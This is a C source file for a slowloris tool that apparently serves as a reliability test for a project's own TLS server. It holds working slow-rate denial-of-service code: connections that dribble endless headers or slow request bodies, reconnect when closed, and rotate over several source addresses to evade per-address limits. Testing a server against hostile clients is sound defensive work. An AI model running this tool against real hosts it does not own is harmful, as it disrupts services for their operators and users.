/* slowloris: hostile TLS clients for `make slowtest` (docs/RELIABILITY.md,
 * "Hostile clients"). Opens N connections to the server, completes the
 * TLS handshake, then dribbles one byte per interval:
 *   --mode header  an endless header block (the request never starts)
 *   --mode body    complete headers announcing a 1 MB JSON body to the
 *                  public POST /v1/auth/refresh, then the body a byte at a
 *                  time
 * When the server closes a connection it is opened again, as a real
 * attacker would. Connections are spread over --sources (source addresses
 * to bind, e.g. 127.0.0.2,127.0.0.3: all of 127/8 reaches loopback).
 * Every 5 s it prints how many are open, refused at the handshake and
 * closed by the server. Not part of the server; links OpenSSL only.
 *
 *   slowloris --port 8443 [--host 127.0.0.1] [--conns 300] [--mode header|body]
 *             [--interval-ms 1000] [--seconds 60] [--sources A,B,...] */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_SOURCES 64

static struct {
	char host[64];
	int port;
	int conns;
	int body_mode;
	int interval_ms;
	int seconds;
	char sources[MAX_SOURCES][64];
	int nsources;
} opt = { "127.0.0.1", 0, 300, 0, 1000, 60, { { 0 } }, 0 };

static SSL_CTX *ctx;
static _Atomic int open_now;
static _Atomic long handshakes, refused, closed_by_server;
static _Atomic int stopping;

static void sleep_ms(int ms)
{
	struct timespec ts = { ms / 1000, (long)(ms % 1000) * 1000000L };

	nanosleep(&ts, NULL);
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* Connects from source (NULL: any) and completes the handshake; NULL when
 * the server refused or did not answer within 10 s. */
static SSL *open_tls(const char *source, int *fd_out)
{
	struct sockaddr_in sa;
	struct timeval tv = { 10, 0 };
	SSL *ssl;
	int fd = socket(AF_INET, SOCK_STREAM, 0), one = 1;

	*fd_out = -1;
	if (fd < 0)
		return NULL;
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	if (source) {
		inet_pton(AF_INET, source, &sa.sin_addr);
		if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0) {
			close(fd);
			return NULL;
		}
	}
	sa.sin_port = htons((uint16_t)opt.port);
	inet_pton(AF_INET, opt.host, &sa.sin_addr);
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0) {
		close(fd);
		return NULL;
	}
	ssl = SSL_new(ctx);
	SSL_set_fd(ssl, fd);
	SSL_set_tlsext_host_name(ssl, "localhost");
	if (SSL_connect(ssl) != 1) {
		ERR_clear_error();
		SSL_free(ssl);
		close(fd);
		return NULL;
	}
	*fd_out = fd;
	return ssl;
}

static int send_all(SSL *ssl, const char *s, size_t n)
{
	return n == 0 || SSL_write(ssl, s, (int)n) == (int)n;
}

static void *attacker(void *arg)
{
	int id = (int)(long)arg;
	const char *source = opt.nsources ? opt.sources[id % opt.nsources] : NULL;
	double end = now_s() + opt.seconds;
	char head[256];

	if (opt.body_mode)
		snprintf(head, sizeof(head),
			 "POST /v1/auth/refresh HTTP/1.1\r\nHost: localhost\r\n"
			 "Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{");
	else
		snprintf(head, sizeof(head), "GET /healthz HTTP/1.1\r\nHost: localhost\r\n");
	while (!atomic_load(&stopping) && now_s() < end) {
		int fd;
		SSL *ssl = open_tls(source, &fd);

		if (!ssl) {
			atomic_fetch_add(&refused, 1);
			sleep_ms(500);
			continue;
		}
		atomic_fetch_add(&handshakes, 1);
		atomic_fetch_add(&open_now, 1);
		if (send_all(ssl, head, strlen(head))) {
			for (long i = 0; !atomic_load(&stopping) && now_s() < end; i++) {
				/* header mode: "X-a: a\r\n" lines forever; body: spaces */
				const char *dribble = opt.body_mode ? " " : "X-a: a\r\n";
				size_t len = opt.body_mode ? 1 : 8;

				if (!send_all(ssl, dribble + (size_t)i % len, 1)) {
					atomic_fetch_add(&closed_by_server, 1);
					break;
				}
				sleep_ms(opt.interval_ms);
			}
		} else {
			atomic_fetch_add(&closed_by_server, 1);
		}
		atomic_fetch_sub(&open_now, 1);
		SSL_free(ssl);
		close(fd);
	}
	return NULL;
}

static void on_signal(int sig)
{
	(void)sig;
	atomic_store(&stopping, 1);
}

static void parse_sources(char *list)
{
	for (char *tok = strtok(list, ","); tok && opt.nsources < MAX_SOURCES;
	     tok = strtok(NULL, ","))
		snprintf(opt.sources[opt.nsources++], sizeof(opt.sources[0]), "%s", tok);
}

int main(int argc, char **argv)
{
	pthread_attr_t attr;
	pthread_t *threads;
	double start, end;

	for (int i = 1; i + 1 < argc; i += 2) {
		if (!strcmp(argv[i], "--host"))
			snprintf(opt.host, sizeof(opt.host), "%s", argv[i + 1]);
		else if (!strcmp(argv[i], "--port"))
			opt.port = atoi(argv[i + 1]);
		else if (!strcmp(argv[i], "--conns"))
			opt.conns = atoi(argv[i + 1]);
		else if (!strcmp(argv[i], "--mode"))
			opt.body_mode = !strcmp(argv[i + 1], "body");
		else if (!strcmp(argv[i], "--interval-ms"))
			opt.interval_ms = atoi(argv[i + 1]);
		else if (!strcmp(argv[i], "--seconds"))
			opt.seconds = atoi(argv[i + 1]);
		else if (!strcmp(argv[i], "--sources"))
			parse_sources(argv[i + 1]);
		else {
			fprintf(stderr, "slowloris: unknown option %s\n", argv[i]);
			return 2;
		}
	}
	if (opt.port <= 0 || opt.conns <= 0 || opt.interval_ms <= 0) {
		fprintf(stderr, "usage: slowloris --port P [--host H] [--conns N] [--mode "
				"header|body] [--interval-ms MS] [--seconds S] [--sources A,B]\n");
		return 2;
	}
	signal(SIGPIPE, SIG_IGN);
	signal(SIGTERM, on_signal);
	signal(SIGINT, on_signal);
	ctx = SSL_CTX_new(TLS_client_method());
	SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL); /* an attacker does not care */
	threads = calloc((size_t)opt.conns, sizeof(*threads));
	if (!ctx || !threads)
		return 1;
	pthread_attr_init(&attr);
	pthread_attr_setstacksize(&attr, 256 * 1024);
	for (int i = 0; i < opt.conns; i++)
		if (pthread_create(&threads[i], &attr, attacker, (void *)(long)i) != 0) {
			fprintf(stderr, "slowloris: only %d threads\n", i);
			opt.conns = i;
			break;
		}
	start = now_s();
	end = start + opt.seconds;
	while (!atomic_load(&stopping) && now_s() < end) {
		sleep_ms(5000);
		fprintf(stderr,
			"slowloris: %4.0fs open %d, handshakes %ld, refused/failed %ld, closed by "
			"server %ld\n",
			now_s() - start, atomic_load(&open_now), atomic_load(&handshakes),
			atomic_load(&refused), atomic_load(&closed_by_server));
	}
	atomic_store(&stopping, 1);
	for (int i = 0; i < opt.conns; i++)
		pthread_join(threads[i], NULL);
	free(threads);
	SSL_CTX_free(ctx);
	return 0;
}
